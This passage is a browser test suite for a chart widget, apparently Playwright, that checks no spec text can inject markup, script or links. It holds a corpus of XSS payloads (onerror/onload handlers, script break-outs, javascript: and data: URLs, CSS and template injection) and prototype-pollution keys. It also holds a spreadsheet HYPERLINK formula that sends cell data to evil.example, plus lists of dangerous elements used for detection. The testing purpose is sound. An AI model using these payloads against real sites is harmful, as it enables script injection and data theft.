// No injection (issue 7, item 4): no text from a spec ever becomes HTML, CSS, a script or a link
// other than http(s).
//
// A corpus of payloads (HTML tags with handlers, attribute break-outs, </script>, javascript: URLs,
// CSS break-outs, template syntax, entities) is placed in EVERY text field of a spec — title, subtitle,
// source, note, KPI title/labels/units/prefix/change unit/notes, chart titles/subtitles/notes, x/y
// labels, y unit, categories, series names and notes — which is then mounted on a blank page as a JS
// object and as JSON text. The page runs WITHOUT a CSP (bypassCSP): a CSP would block inline handlers
// and so hide an injection; a control check plants an <img onerror> and shows the harness catches it.
// Hover (synthetic pointer moves over every plot), keyboard focus and arrows (tooltips, live region),
// a legend toggle, exportSvg/exportCsv and a download button (PNG, SVG, CSV in turn) run on each.
// Assertions, for every payload:
//   - window.__pwned stays undefined; no page error;
//   - no element outside the allow-list (div canvas a button p table caption thead tbody tr th td span
//     strong ul li code) ever appears under the widget, and no img/script/svg/iframe/object/embed/style/
//     … anywhere in the document — a MutationObserver watches for the whole run, so an element added and
//     removed again still counts; no attribute named on* is ever set;
//   - every link's href is http(s) (the resolved URL's protocol) or absent;
//   - the payload appears verbatim as text: the canvas's aria-label, the chart group's aria-label, the
//     hidden table's cells (textContent ===), the legend buttons, the tooltip, the live region, the
//     source link's text; no element's style mentions it;
//   - the exported SVG parses (DOMParser, image/svg+xml) without error, holds no img/script/
//     foreignObject/iframe/object/a element and no on* attribute, and contains the payload as text;
//   - the CSV export holds the payload as one field (quoted per RFC 4180; a formula gets a leading ');
//   - download file names are letters, digits and "-" only;
//   - in the error path (payload as an unknown key, theme, locale, chart type, a value, source_url) the
//     error box shows it as text, and `source_url: "javascript:…"` (and data:, //host, relative,
//     vbscript:, whitespace-prefixed) is rejected with the path `source_url`.
// Prototype pollution: `__proto__`, `constructor` and `prototype` as own keys (JSON.parse'd object
// and JSON text, at the root, in a chart and in a series) are reported as unknown fields with their
// path and leave Object.prototype untouched (({}).polluted === undefined).
// <info-graphic> (www/embed.js): a payload spec inline, payload theme/locale attributes, a javascript:
// src; the editor's copy-embed snippet (www/editor-embed.js) for a payload spec, loaded as a page of
// its own; the iframe page (embed.html#<spec>). Same assertions.

const PWN = "window.__pwned=1";
export const PAYLOADS = [
  `<img src=x onerror=${PWN}>`,
  `"><svg onload=${PWN}>`,
  `'><iframe srcdoc="<script>parent.__pwned=1</script>">`,
  `</script><script>${PWN}</script>`,
  `javascript:${PWN}`,
  `'); background:url(javascript:${PWN}); font-family:'x`,
  `</style><style>*{background:url("javascript:${PWN}")}</style>`,
  `x" style="background:url(javascript:${PWN})`,
  `{{constructor.constructor('${PWN}')()}}`,
  `\${${PWN}}`,
  `<object data="javascript:${PWN}"></object><embed src=x>`,
  `&lt;b&gt;not bold&lt;/b&gt; &amp; <b onmouseover=${PWN}>b</b>`,
  `<a href="javascript:${PWN}">click</a>`,
  `=HYPERLINK("https://evil.example/?"&A1,"x")`, // a formula, for the CSV export
];
const ALLOWED = new Set(["div", "canvas", "a", "button", "p", "table", "caption", "thead", "tbody", "tr", "th", "td", "span", "strong", "ul", "li", "code"]);
const BAD_URLS = [
  `javascript:${PWN}`,
  `JavaScript:${PWN}`,
  ` javascript:${PWN}`,
  `\tjavascript:${PWN}`,
  `java\nscript:${PWN}`,
  `data:text/html,<script>${PWN}</script>`,
  `vbscript:msgbox(1)`,
  `//evil.example/`,
  `/relative/path`,
  `https:`,
  `https://`,
  `http:/evil.example`,
];

/** A spec with `p` in every text field (distinct where the format wants distinct values). */
function payloadSpec(p, locale) {
  const xy = (type) => ({
    type,
    title: p,
    subtitle: p,
    note: p,
    x: { label: p, categories: [p, `${p} #2`, "c"] },
    y: { label: p, unit: p },
    series: [
      { name: p, values: [1, 2, 3], derived: true, note: p },
      { name: `${p} B`, values: [3, 1, 2] },
    ],
  });
  return {
    version: 1,
    locale,
    title: p,
    subtitle: p,
    source: p,
    source_url: `https://example.org/${p}`,
    note: p,
    charts: [
      {
        type: "kpi",
        title: p,
        items: [
          { label: p, value: 1.5, unit: p, prefix: p, change: 2, change_unit: p, note: p },
          { label: `${p} 2`, value: 3, unit: "%", derived: true },
        ],
      },
      xy("line"),
      xy("bar"),
    ],
  };
}

/** A spec whose errors quote `p`: as an unknown key, a theme, a locale, a chart type, a value, a URL. */
function errorSpec(p) {
  return {
    version: 1,
    [p]: 1,
    theme: p,
    locale: p,
    source_url: p,
    charts: [{ type: p }, { type: "bar", series: [{ name: "s", values: [p] }] }],
  };
}

// ---- in the page ----------------------------------------------------------------------------------
/** Installed once per page: records every element and on* attribute ever added, and page errors. */
function installWatch() {
  const w = (window.__inj = { added: [], onAttrs: [], errors: [] });
  const dangerous = new Set(["img", "script", "svg", "iframe", "object", "embed", "style", "link", "meta", "base", "frame", "frameset", "math", "template", "form", "input", "textarea", "video", "audio", "source", "image", "use", "foreignobject"]);
  const visit = (n) => {
    if (n.nodeType !== 1) return;
    const name = n.localName.toLowerCase();
    if (n.namespaceURI !== "http://www.w3.org/1999/xhtml" || dangerous.has(name)) {
      // A spec data block inside <info-graphic> (never executed) is the page's, not the widget's.
      if (!(name === "script" && n.type === "application/json" && n.parentElement?.localName === "info-graphic")) w.added.push(`<${name}> in ${n.parentElement?.localName}`);
    }
    for (const a of n.attributes) if (/^on/i.test(a.name)) w.onAttrs.push(`${name}[${a.name}]`);
    for (const c of n.children) visit(c);
  };
  new MutationObserver((records) => {
    for (const r of records) {
      if (r.type === "childList") r.addedNodes.forEach(visit);
      else if (/^on/i.test(r.attributeName)) w.onAttrs.push(`${r.target.localName}[${r.attributeName}]`);
    }
  }).observe(document, { subtree: true, childList: true, attributes: true });
  addEventListener("error", (e) => w.errors.push(String(e.message ?? e)), true);
}

/**
 * Everything the assertions need about the widget in `host` (after it rendered `p`), driving hover,
 * keyboard and the legend first. Runs in the browser.
 */
async function inspect({ hostSel, p, allowed }) {
  const host = document.querySelector(hostSel);
  const frame = () => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
  const out = { bad: [], hrefs: [], styleHits: [], tooltips: [], live: [], legend: [], cells: [], labels: [] };
  const root = host.querySelector(".infographic");
  if (!root) return { ...out, missing: true };
  // Hover across every plot (synthetic pointer events: the widget reads clientX/Y).
  const canvas = root.querySelector("canvas");
  for (const t of root.querySelectorAll('[data-ig^="plot:"]')) {
    const r = t.getBoundingClientRect();
    for (let i = 0; i < 6; i++) {
      const clientX = r.left + ((i + 0.5) * r.width) / 6;
      canvas.dispatchEvent(new PointerEvent("pointermove", { bubbles: true, clientX, clientY: r.top + r.height / 2, pointerType: "mouse" }));
      const tip = root.querySelector("[role=tooltip]");
      if (tip && tip.style.display !== "none" && tip.textContent) out.tooltips.push(tip.textContent);
    }
  }
  canvas.dispatchEvent(new PointerEvent("pointerleave", { bubbles: false }));
  root.dispatchEvent(new PointerEvent("pointerleave", { bubbles: false }));
  // Keyboard: focus each plot, walk it, read the live region and the tooltip.
  const live = root.querySelector("[aria-live]");
  for (const t of root.querySelectorAll('[data-ig^="plot:"]')) {
    t.focus();
    for (const key of ["ArrowRight", "ArrowDown", "ArrowRight", "ArrowUp", "End"]) {
      t.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true, cancelable: true }));
      out.live.push(live?.textContent ?? "");
      const tip = root.querySelector("[role=tooltip]");
      if (tip && tip.style.display !== "none") out.tooltips.push(tip.textContent);
    }
    t.dispatchEvent(new KeyboardEvent("keydown", { key: "Escape", bubbles: true }));
  }
  // The legend: read, toggle one series off and on again (the layer is rebuilt each time).
  const legend = () => [...root.querySelectorAll('button[data-ig^="legend:"]')];
  out.legend = legend().map((b) => b.textContent);
  if (legend().length) {
    legend()[0].click();
    await frame();
    legend()[0].click();
    await frame();
  }
  // The whole subtree, after all that.
  for (const el of host.querySelectorAll("*")) {
    const name = el.localName;
    const specScript = name === "script" && el.type === "application/json" && el.parentElement === host;
    if (!specScript && (!allowed.includes(name) || el.namespaceURI !== "http://www.w3.org/1999/xhtml")) out.bad.push(`<${name}>`);
    for (const a of el.attributes) {
      if (/^on/i.test(a.name)) out.bad.push(`${name}[${a.name}]`);
      if (/^(href|src|action|formaction|xlink:href|srcdoc|data)$/i.test(a.name) && name !== "a") out.bad.push(`${name}[${a.name}=${a.value}]`);
    }
    const style = el.getAttribute("style") ?? "";
    if (/url\(|javascript|expression\(/i.test(style) || (p && style.includes(p))) out.styleHits.push(`<${name} style="${style.slice(0, 120)}">`);
  }
  for (const a of host.querySelectorAll("a")) {
    let protocol = null;
    try {
      protocol = new URL(a.href).protocol;
    } catch {
      protocol = `unparsable: ${a.getAttribute("href")}`;
    }
    out.hrefs.push({ href: a.getAttribute("href"), protocol, text: a.textContent, shown: a.style.display !== "none" });
  }
  out.cells = [...root.querySelectorAll("table th, table td, table caption")].map((c) => c.textContent);
  out.labels = [...root.querySelectorAll("[aria-label]")].map((e) => e.getAttribute("aria-label"));
  out.canvasLabel = canvas.getAttribute("aria-label");
  out.alerts = [...root.querySelectorAll("[role=alert]")].filter((a) => a.style.display !== "none").map((a) => a.textContent);
  return out;
}

/** What must hold of one widget's inspection for payload p (object or text form). */
function verdict(r, p, { rendered = true } = {}) {
  const problems = [];
  if (r.missing) return ["no widget root"];
  if (r.bad.length) problems.push(`elements/attributes outside the allow-list: ${[...new Set(r.bad)].join(", ")}`);
  if (r.styleHits.length) problems.push(`styles: ${r.styleHits.slice(0, 3).join(", ")}`);
  for (const h of r.hrefs) {
    if (h.href !== null && !/^https?:$/.test(h.protocol)) problems.push(`link href ${h.href} (${h.protocol})`);
  }
  if (rendered) {
    if (r.alerts.length) problems.push(`error box: ${r.alerts[0].slice(0, 200)}`);
    if (r.canvasLabel !== p) problems.push(`canvas aria-label ${JSON.stringify(r.canvasLabel)}`);
    if (!r.labels.some((l) => l === p)) problems.push("no chart group named by the payload");
    if (!r.cells.some((c) => c === p)) problems.push(`no table cell reads the payload (cells: ${JSON.stringify(r.cells.slice(0, 6))})`);
    if (!r.cells.some((c) => c === `${p} #2`)) problems.push("the second category is not a table cell");
    if (!r.legend.some((t) => t.includes(`${p} B`))) problems.push(`legend buttons: ${JSON.stringify(r.legend)}`);
    if (!r.tooltips.some((t) => t.includes(p))) problems.push(`no tooltip shows the payload (${r.tooltips.length} tooltips, e.g. ${JSON.stringify(r.tooltips[0])})`);
    if (!r.live.some((t) => t.includes(p))) problems.push(`the live region never reads the payload (${JSON.stringify(r.live.slice(0, 2))})`);
    const link = r.hrefs.find((h) => h.shown);
    if (!link) problems.push("no source link");
    else if (!link.text.includes(p) || link.protocol !== "https:") problems.push(`source link ${JSON.stringify(link)}`);
  }
  return problems;
}

/**
 * ctx.openPage, but with the page's Content-Security-Policy switched off (bypassCSP): a CSP would block
 * inline handlers and javascript: URLs and so hide an injection; the widget must be safe on pages
 * without one. (The control check shows that a planted handler does run here.)
 */
/** The pre-rendered snippet page with JavaScript off: what is there besides the snippet's own
 *  elements (nothing may be), and whether the payload title reads as text in the picture. */
async function noScriptView(browser, url, body) {
  const context = await browser.newContext({ viewport: { width: 900, height: 900 }, javaScriptEnabled: false, bypassCSP: true });
  const page = await context.newPage();
  await page.route(url, (route) =>
    route.fulfill({ status: 200, headers: { "Content-Type": "text/html; charset=utf-8" }, body: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>snippet</title><link rel="icon" href="data:,"></head><body>\n${body}\n</body></html>` }),
  );
  await page.goto(url);
  const out = await page.evaluate(() => {
    const problems = [];
    // The snippet's own elements (HTML, and SVG's lower-case names, its <a> included).
    const allowed = new Set(["LINK", "SCRIPT", "INFO-GRAPHIC", "DIV", "P", "SECTION", "TABLE", "CAPTION", "THEAD", "TBODY", "TR", "TH", "TD", "SPAN", "A", "svg", "a", "rect", "line", "polyline", "polygon", "circle", "text", "path"]);
    const urls = new Set(["href", "src", "data", "action", "formaction", "xlink:href"]);
    for (const el of document.body.querySelectorAll("*")) {
      if (!allowed.has(el.tagName)) problems.push(`element <${el.tagName.toLowerCase()}>`);
      for (const a of el.attributes) {
        const script = urls.has(a.name) && /^\s*javascript:/i.test(a.value);
        if (/^on/i.test(a.name) || a.name === "style" || script) problems.push(`attribute ${a.name}="${a.value.slice(0, 40)}" on <${el.tagName.toLowerCase()}>`);
      }
    }
    const scripts = [...document.scripts].map((s) => s.type || "classic");
    if (scripts.join() !== "module,application/json") problems.push(`scripts ${scripts}`);
    const shown = [...document.querySelectorAll(".ig-pic")].filter((p) => getComputedStyle(p).display !== "none");
    if (shown.length !== 1) problems.push(`${shown.length} pictures shown`);
    return problems;
  });
  await context.close();
  return out;
}

async function openBare(browser) {
  const context = await browser.newContext({ viewport: { width: 900, height: 900 }, deviceScaleFactor: 1, bypassCSP: true });
  const page = await context.newPage();
  const problems = [];
  page.on("console", (m) => {
    if (m.type() === "error") problems.push(`console.error: ${m.text()}`);
  });
  page.on("pageerror", (e) => problems.push(`uncaught: ${e.message}`));
  page.on("requestfailed", (r) => problems.push(`request failed: ${r.url()} (${r.failure()?.errorText})`));
  page.on("response", (r) => {
    if (r.status() >= 400) problems.push(`HTTP ${r.status()}: ${r.url()}`);
  });
  return { context, page, problems };
}

export default async function injectionChecks(ctx) {
  const { browser, base, check, assert, WAIT_MS } = ctx;
  const tag = "injection";
  const { context, page, problems } = await openBare(browser);
  await page.addInitScript(installWatch);
  let ready = false;
  await check(`${tag}: a blank page without CSP loads the module (mutation watch installed)`, async () => {
    await page.goto(`${base}/__e2e__/blank.html`);
    await page.evaluate(async () => {
      window.__m = await import("/pkg/infographic.js");
      await window.__m.default();
      const host = document.createElement("div");
      host.id = "host";
      host.style.width = "800px";
      document.body.append(host);
    });
    // The parser's own <meta>/<title>/<link> in <head> were seen by the watch: not ours to judge.
    const head = await page.evaluate(() => window.__inj?.added.splice(0));
    assert(head, "the watch is not installed");
    assert(head.every((a) => / in head$/.test(a)), `before any widget: ${head.join(", ")}`);
    ready = true;
  });

  /** Fails when anything the watch or the page saw was bad; clears them. */
  const pageClean = async () => {
    const w = await page.evaluate(async () => {
      await new Promise((r) => setTimeout(r, 30)); // let any onerror/onload fire
      const w = window.__inj;
      const out = { pwned: window.__pwned, added: w.added.splice(0), onAttrs: w.onAttrs.splice(0), errors: w.errors.splice(0), polluted: ({}).polluted };
      return out;
    });
    const found = [];
    if (w.pwned !== undefined) found.push(`window.__pwned = ${w.pwned}`);
    if (w.added.length) found.push(`elements added: ${[...new Set(w.added)].join(", ")}`);
    if (w.onAttrs.length) found.push(`on* attributes set: ${[...new Set(w.onAttrs)].join(", ")}`);
    if (w.errors.length) found.push(`errors: ${w.errors.join("; ")}`);
    if (w.polluted !== undefined) found.push("Object.prototype polluted");
    const seen = problems.splice(0).filter((x) => !x.startsWith("console.error: infographic:"));
    if (seen.length) found.push(...seen);
    return found;
  };

  for (const [i, p] of PAYLOADS.entries()) {
    const locale = i % 2 ? "en" : "zh-CN";
    await check(`${tag} #${i} ${JSON.stringify(p).slice(0, 50)}: in every text field (object and JSON text), hover, keys, legend, exports`, async () => {
      assert(ready, "the module did not load");
      const spec = payloadSpec(p, locale);
      const found = [];
      for (const form of ["object", "text"]) {
        const r = await page.evaluate(
          async ({ spec, form }) => {
            const host = document.getElementById("host");
            window.__chart?.destroy();
            window.__chart = window.__m.mount(host, form === "text" ? JSON.stringify(spec) : spec);
            await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
            return { errors: window.__chart.errors() };
          },
          { spec, form },
        );
        if (r.errors.length) {
          found.push(`${form}: the spec has errors ${JSON.stringify(r.errors).slice(0, 300)}`);
          continue;
        }
        const info = await page.evaluate(inspect, { hostSel: "#host", p, allowed: [...ALLOWED] });
        found.push(...verdict(info, p).map((x) => `${form}: ${x}`));
      }
      // Exports of the last mount: SVG parsed as SVG, CSV, and the download buttons' file names.
      const ex = await page.evaluate((p) => {
        const svg = window.__chart.exportSvg();
        const doc = new DOMParser().parseFromString(svg, "image/svg+xml");
        const bad = [];
        if (doc.querySelector("parsererror")) bad.push(`parser error: ${doc.querySelector("parsererror").textContent.slice(0, 200)}`);
        for (const el of doc.querySelectorAll("*")) {
          if (/^(img|image|script|foreignobject|iframe|object|embed|a|use|style|animate|set|handler)$/i.test(el.localName)) bad.push(`<${el.localName}>`);
          for (const a of el.attributes) if (/^on/i.test(a.name) || /href$/i.test(a.name)) bad.push(`${el.localName}[${a.name}]`);
        }
        const text = [...doc.querySelectorAll("text")].map((t) => t.textContent);
        const squash = (s) => s.replace(/\s+/g, "");
        const csv = window.__chart.exportCsv();
        return {
          bad,
          root: doc.documentElement.localName,
          hasText: text.some((t) => t === p) || squash(text.join("")).includes(squash(p)),
          // RFC 4180 quoting; a field a spreadsheet would run as a formula gets a leading apostrophe.
          csvHas: (() => {
            const field = (/^[=+@-]/.test(p) ? "'" : "") + p;
            return csv.includes(/[",\r\n]/.test(field) ? `"${field.replaceAll('"', '""')}"` : field);
          })(),
        };
      }, p);
      if (ex.root !== "svg") found.push(`exportSvg: root <${ex.root}>`);
      if (ex.bad.length) found.push(`exportSvg: ${[...new Set(ex.bad)].join(", ")}`);
      if (!ex.hasText) found.push("exportSvg: the payload is not in the SVG's text");
      if (!ex.csvHas) found.push("exportCsv: the payload is not a CSV field");
      // One download per payload, the kinds in turn (the name comes from the title either way). A real
      // click: Chromium may hold back repeated downloads that no user gesture started.
      {
        const kind = ["png", "svg", "csv"][i % 3];
        const [download] = await Promise.all([
          page.waitForEvent("download", { timeout: WAIT_MS }),
          page.locator(`#host button[data-ig="export:${kind}"]`).click(),
        ]);
        const name = download.suggestedFilename();
        await download.cancel().catch(() => {});
        if (!new RegExp(`^[\\p{L}\\p{N}-]+\\.${kind}$`, "u").test(name)) found.push(`download file name ${JSON.stringify(name)}`);
      }
      found.push(...(await pageClean()));
      assert(found.length === 0, found.join("\n"));
      return "text only";
    });
  }

  await check(`${tag}: payloads in the error path (unknown key, theme, locale, type, value, source_url) are shown as text`, async () => {
    assert(ready, "the module did not load");
    const found = [];
    for (const p of PAYLOADS) {
      const r = await page.evaluate(
        async ({ spec, p }) => {
          const host = document.getElementById("host");
          window.__chart?.destroy();
          window.__chart = window.__m.mount(host, JSON.stringify(spec));
          const errors = window.__chart.errors();
          const alert = host.querySelector("[role=alert]");
          return { errors, alert: alert?.textContent ?? "", items: alert ? alert.querySelectorAll("li").length : 0 };
        },
        { spec: errorSpec(p), p },
      );
      const info = await page.evaluate(inspect, { hostSel: "#host", p: null, allowed: [...ALLOWED] });
      found.push(...verdict(info, p, { rendered: false }));
      const quoted = JSON.stringify(p).slice(1, 20);
      if (!r.items || !r.alert.includes(quoted)) found.push(`${JSON.stringify(p)}: the error box does not quote it: ${r.alert.slice(0, 200)}`);
      if (!r.errors.some((e) => e.path === "source_url")) found.push(`${JSON.stringify(p)} as source_url: not rejected`);
    }
    found.push(...(await pageClean()));
    assert(found.length === 0, found.join("\n"));
    return `${PAYLOADS.length} error specs`;
  });

  await check(`${tag}: source_url that is not http(s) is rejected with the path (${BAD_URLS.length} forms); the same text as plain text is shown as text`, async () => {
    assert(ready, "the module did not load");
    const found = [];
    for (const url of BAD_URLS) {
      const spec = { version: 1, title: "t", source: url, source_url: url, charts: [{ type: "bar", x: { categories: ["a"] }, series: [{ name: "s", values: [1] }] }] };
      const r = await page.evaluate((spec) => {
        const host = document.getElementById("host");
        window.__chart?.destroy();
        window.__chart = window.__m.mount(host, spec);
        return { errors: window.__chart.errors(), validate: window.__m.validate(JSON.stringify(spec)), links: [...host.querySelectorAll("a")].filter((a) => a.style.display !== "none").map((a) => a.getAttribute("href")) };
      }, spec);
      const reject = (errors) => errors.some((e) => e.path === "source_url" && /http/.test(e.message));
      if (!reject(r.errors) || !reject(r.validate)) found.push(`${JSON.stringify(url)}: not rejected: ${JSON.stringify(r.errors)}`);
      if (r.links.length) found.push(`${JSON.stringify(url)}: a link is shown: ${r.links}`);
      // As plain text (the source line, no source_url): drawn as text, no link at all.
      const t = await page.evaluate(async (url) => {
        const host = document.getElementById("host");
        window.__chart.update({ version: 1, title: url, source: url, charts: [{ type: "bar", x: { categories: [url] }, series: [{ name: url, values: [1] }] }] });
        await new Promise((r) => requestAnimationFrame(r));
        return {
          errors: window.__chart.errors(),
          label: host.querySelector("canvas").getAttribute("aria-label"),
          cells: [...host.querySelectorAll("table th, table td")].map((c) => c.textContent),
          links: [...host.querySelectorAll("a")].filter((a) => a.style.display !== "none").length,
          drawn: window.__chart.textBoxes().some((b) => b.text.includes(url.trim().slice(0, 8))),
        };
      }, url);
      if (t.errors.length) found.push(`${JSON.stringify(url)} as text: errors ${JSON.stringify(t.errors)}`);
      // Control characters (tab, newline) may be normalised to spaces: compare modulo whitespace.
      const ws = (x) => String(x).replace(/[\s\u0000-\u001f]+/g, " ").trim();
      if (ws(t.label) !== ws(url) || !t.cells.some((c) => ws(c) === ws(url)) || t.links || !t.drawn) found.push(`${JSON.stringify(url)} as text: ${JSON.stringify(t)}`);
    }
    found.push(...(await pageClean()));
    assert(found.length === 0, found.join("\n"));
    return "all rejected";
  });

  await check(`${tag}: __proto__/constructor/prototype keys are reported as unknown fields and pollute nothing`, async () => {
    assert(ready, "the module did not load");
    const text = JSON.stringify({
      version: 1,
      title: "t",
      charts: [{ type: "bar", x: { categories: ["a"] }, series: [{ name: "s", values: [1] }] }],
    })
      .replace('"title"', '"__proto__":{"polluted":"root"},"constructor":{"prototype":{"polluted":"ctor"}},"prototype":{"polluted":"proto"},"title"')
      .replace('"type":"bar"', '"type":"bar","__proto__":{"polluted":"chart"},"constructor":{"prototype":{"polluted":"c"}}')
      .replace('"name":"s"', '"name":"s","__proto__":{"polluted":"series"},"prototype":{"polluted":"p"}');
    const r = await page.evaluate(async (text) => {
      const host = document.getElementById("host");
      const out = {};
      for (const [form, spec] of [["object", JSON.parse(text)], ["text", text]]) {
        window.__chart?.destroy();
        window.__chart = window.__m.mount(host, spec);
        out[form] = window.__chart.errors();
        out[`${form}Validate`] = window.__m.validate(spec);
      }
      // An object literal whose __proto__ is a real prototype (not an own key): nothing to report,
      // nothing polluted.
      const literal = { __proto__: { polluted: "literal", version: 2 }, version: 1, charts: [{ type: "bar", series: [{ name: "s", values: [1] }] }] };
      out.literal = window.__m.validate(literal);
      out.polluted = [({}).polluted, Object.prototype.polluted, [].polluted, Object.polluted, Function.prototype.polluted];
      return out;
    }, text);
    const want = [
      ["__proto__", ""],
      ["constructor", ""],
      ["prototype", ""],
      ["__proto__", "charts[0]"],
      ["constructor", "charts[0]"],
      ["__proto__", "charts[0].series[0]"],
      ["prototype", "charts[0].series[0]"],
    ];
    const found = [];
    for (const form of ["object", "text", "objectValidate", "textValidate"]) {
      for (const [key, at] of want) {
        const path = at ? `${at}.${key}` : key;
        const hit = r[form].find((e) => e.message.includes(`unknown field "${key}"`) && (e.path === path || e.path === at));
        if (!hit) found.push(`${form}: no "unknown field ${key}" at ${path || "the root"} in ${JSON.stringify(r[form]).slice(0, 400)}`);
      }
    }
    if (r.polluted.some((x) => x !== undefined)) found.push(`polluted: ${JSON.stringify(r.polluted)}`);
    if (r.literal.length) found.push(`an inherited __proto__ was read: ${JSON.stringify(r.literal)}`);
    found.push(...(await pageClean()));
    assert(found.length === 0, found.join("\n"));
    return `${r.text.length} errors, e.g. ${r.text[0].path}: ${r.text[0].message.slice(0, 60)}`;
  });

  await check(`${tag}: <info-graphic> with payload specs inline, payload theme/locale attributes, a javascript: src`, async () => {
    assert(ready, "the module did not load");
    await page.evaluate(() => import("/embed.js"));
    const found = [];
    for (const p of PAYLOADS) {
      // Inline spec; then the same element with payload theme and locale attributes (reported errors).
      const state = await page.evaluate(async (spec) => {
        window.__chart?.destroy();
        window.__chart = null;
        document.querySelector("info-graphic")?.remove();
        const el = document.createElement("info-graphic");
        el.id = "ig";
        el.style.width = "800px";
        const script = document.createElement("script");
        script.type = "application/json";
        script.textContent = JSON.stringify(spec);
        el.append(script);
        const done = new Promise((r) => el.addEventListener("infographic:render", (e) => r(e.detail.state), { once: true }));
        document.body.append(el);
        const state = await done;
        await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
        return state;
      }, payloadSpec(p, "en"));
      if (state !== "ok") found.push(`${JSON.stringify(p)}: state ${state}`);
      const info = await page.evaluate(inspect, { hostSel: "#ig", p, allowed: [...ALLOWED] });
      found.push(...verdict(info, p).map((x) => `${JSON.stringify(p)} inline: ${x}`));
      const attrs = await page.evaluate(async (p) => {
        const el = document.getElementById("ig");
        const done = new Promise((r) => el.addEventListener("infographic:render", (e) => r(e.detail.state), { once: true }));
        el.setAttribute("theme", p);
        el.setAttribute("locale", p);
        const state = await done;
        return { state, alert: el.querySelector("[role=alert]")?.textContent ?? "" };
      }, p);
      if (attrs.state !== "invalid" || !attrs.alert.includes(JSON.stringify(p).slice(1, 20))) found.push(`${JSON.stringify(p)} as theme/locale: ${JSON.stringify(attrs).slice(0, 200)}`);
      const info2 = await page.evaluate(inspect, { hostSel: "#ig", p: null, allowed: [...ALLOWED] });
      found.push(...verdict(info2, p, { rendered: false }).map((x) => `${JSON.stringify(p)} theme/locale: ${x}`));
    }
    const src = await page.evaluate(async (url) => {
      document.querySelector("info-graphic")?.remove();
      const el = document.createElement("info-graphic");
      el.id = "ig";
      el.setAttribute("src", url);
      const done = new Promise((r) => el.addEventListener("infographic:render", (e) => r(e.detail.state), { once: true }));
      document.body.append(el);
      const state = await done;
      const out = { state, alert: el.querySelector("[role=alert]")?.textContent ?? "", tags: [...el.querySelectorAll("*")].map((e) => e.localName) };
      el.remove();
      return out;
    }, `javascript:${PWN}`);
    if (src.state !== "error" || !src.alert.includes(`javascript:${PWN}`)) found.push(`javascript: src: ${JSON.stringify(src)}`);
    if (src.tags.some((t) => !ALLOWED.has(t))) found.push(`javascript: src made ${src.tags}`);
    // A javascript:/data: src is refused by the CSP's connect-src (logged); nothing else may appear.
    found.push(...(await pageClean()).filter((x) => !/Content Security Policy|connect-src|Failed to fetch|javascript:/i.test(x)));
    assert(found.length === 0, found.join("\n"));
    return `${PAYLOADS.length} inline specs`;
  });
  await check(`${tag}: control: the harness does catch markup injected on purpose`, async () => {
    assert(ready, "the module did not load");
    await page.evaluate(async (spec) => {
      document.querySelector("info-graphic")?.remove();
      window.__chart?.destroy();
      window.__chart = window.__m.mount(document.getElementById("host"), spec);
      const planted = document.createElement("div");
      document.querySelector("#host .infographic").append(planted);
      planted.innerHTML = '<img src="x" onerror="window.__pwned=1">'; // what the widget must never do
      await new Promise((r) => setTimeout(r, 100));
    }, payloadSpec("control", "en"));
    const info = await page.evaluate(inspect, { hostSel: "#host", p: "control", allowed: [...ALLOWED] });
    const caught = await pageClean();
    await page.evaluate(() => {
      delete window.__pwned;
      window.__chart.destroy();
    });
    const v = verdict(info, "control");
    assert(v.some((x) => x.includes("<img>") && x.includes("img[onerror]")), `inspect missed it: ${JSON.stringify(v)}`);
    // (pageClean also saw the 404 for "x" and the error event: expected here.)
    for (const want of ["window.__pwned = 1", "elements added: <img>", "on* attributes set: img[onerror]"])
      assert(caught.some((x) => x.startsWith(want)), `the watch missed "${want}": ${JSON.stringify(caught)}`);
    return "img + onerror + __pwned all reported";
  });
  await context.close();

  await check(`${tag}: the editor's copy-embed snippet for a payload spec, loaded as a page, and the iframe page (embed.html#spec)`, async () => {
    const { context, page, problems } = await openBare(browser);
    const found = [];
    try {
      await page.addInitScript(installWatch);
      await page.goto(`${base}/__e2e__/blank.html`);
      // The editor's "Copy embed code": the pre-rendered snippet, made by the wasm.
      const snippets = await page.evaluate(
        async ({ specs, base }) => {
          const m = await import("/pkg-editor/infographic.js");
          await m.default();
          return specs.map((s) => m.embedSnippet(JSON.stringify(s), `${base}/`));
        },
        { specs: PAYLOADS.map((p) => payloadSpec(p, "en")), base },
      );
      for (const [i, p] of PAYLOADS.entries()) {
        const url = `${base}/__injection__/snippet-${i}.html`;
        await page.route(url, (route) =>
          route.fulfill({
            status: 200,
            headers: { "Content-Type": "text/html; charset=utf-8" },
            body: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>snippet</title><link rel="icon" href="data:,"></head><body>\n${snippets[i]}\n</body></html>`,
          }),
        );
        await page.goto(url);
        await page.waitForFunction(() => document.querySelector("info-graphic")?.dataset.state && document.querySelector("info-graphic").dataset.state !== "loading", null, { timeout: WAIT_MS });
        const r = await page.evaluate(async () => {
          await new Promise((r) => setTimeout(r, 30));
          const el = document.querySelector("info-graphic");
          return {
            pwned: window.__pwned,
            state: el.dataset.state,
            label: el.querySelector("canvas")?.getAttribute("aria-label"),
            scripts: [...document.scripts].map((s) => s.type || "classic"),
            added: window.__inj.added,
            onAttrs: window.__inj.onAttrs,
          };
        });
        if (r.pwned !== undefined || r.state !== "ok" || r.label !== p || r.onAttrs.length) found.push(`snippet ${JSON.stringify(p)}: ${JSON.stringify(r)}`);
        if (r.scripts.join() !== "module,application/json") found.push(`snippet ${JSON.stringify(p)}: scripts ${r.scripts}`);
        // Before the widget took over, and without JavaScript: the pictures and the text only.
        const still = await noScriptView(browser, url, snippets[i]);
        found.push(...still.map((x) => `snippet ${JSON.stringify(p)} without JavaScript: ${x}`));
      }
      for (const p of PAYLOADS.slice(0, 4)) {
        await page.goto(`${base}/embed.html#${encodeURIComponent(JSON.stringify(payloadSpec(p, "zh-CN")))}`);
        await page.waitForFunction(() => document.querySelector("info-graphic")?.dataset.state === "ok", null, { timeout: WAIT_MS });
        const info = await page.evaluate(inspect, { hostSel: "info-graphic", p, allowed: [...ALLOWED] });
        found.push(...verdict(info, p).map((x) => `embed.html ${JSON.stringify(p)}: ${x}`));
        const w = await page.evaluate(() => ({ pwned: window.__pwned, added: window.__inj.added.filter((a) => !/^<(script|link|meta)> in head$/.test(a)), on: window.__inj.onAttrs }));
